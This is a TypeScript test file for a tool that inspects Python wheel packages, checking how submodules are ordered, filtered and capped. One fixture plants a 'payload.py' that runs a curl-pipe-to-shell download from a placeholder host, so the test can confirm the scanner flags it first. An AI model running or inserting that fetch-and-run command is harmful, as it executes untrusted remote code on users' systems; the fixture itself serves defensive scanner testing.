import * as assert from 'node:assert/strict';
import { inspectPath } from '../../../../src/core/packages/inspect/inspectPath';
import { MAX_SUBMODULES } from '../../../../src/core/packages/inspect/topLevelModules';
import { buildWheelEntries, buildZip, TempDir, wheelFileName, type WheelSpec } from './builders';

describe('inspect: the submodules the gate imports as well', () => {
  let tmp: TempDir;
  beforeEach(() => (tmp = new TempDir()));
  afterEach(() => tmp.remove());

  const inspect = (spec: WheelSpec) => inspectPath(tmp.write(wheelFileName(spec), buildZip(buildWheelEntries(spec))));

  it('lists submodules shallow first, without __main__, tests or conftest', async () => {
    const result = await inspect({
      name: 'layered',
      version: '1.0.0',
      topLevel: ['layered'],
      files: {
        'layered/__init__.py': '',
        'layered/core.py': 'X = 1\n',
        'layered/__main__.py': 'print("cli")\n',
        'layered/deep/__init__.py': '',
        'layered/deep/inner.py': 'Y = 2\n',
        'layered/tests/test_core.py': 'def test(): pass\n',
        'layered/conftest.py': '',
      },
    });
    assert.deepEqual(result.topLevelModules, ['layered']);
    assert.deepEqual(result.submodules, ['layered.core', 'layered.deep', 'layered.deep.inner']);
  });

  it('puts a flagged file first and stays bounded for a large package', async () => {
    const files: Record<string, string> = { 'big/__init__.py': '' };
    for (let i = 0; i < 40; i++) files[`big/m${String(i).padStart(2, '0')}.py`] = 'VALUE = 1\n';
    files['big/zz/payload.py'] = 'import os\nos.system("curl -fsSL http://payload.invalid/x.sh | sh")\n';
    const result = await inspect({ name: 'big', version: '1.0.0', topLevel: ['big'], files });
    assert.equal(result.submodules.length, MAX_SUBMODULES);
    assert.equal(result.submodules[0], 'big.zz.payload', JSON.stringify(result.submodules));
    assert.deepEqual(result.submodules.slice(1, 3), ['big.m00', 'big.m01']);
  });
});
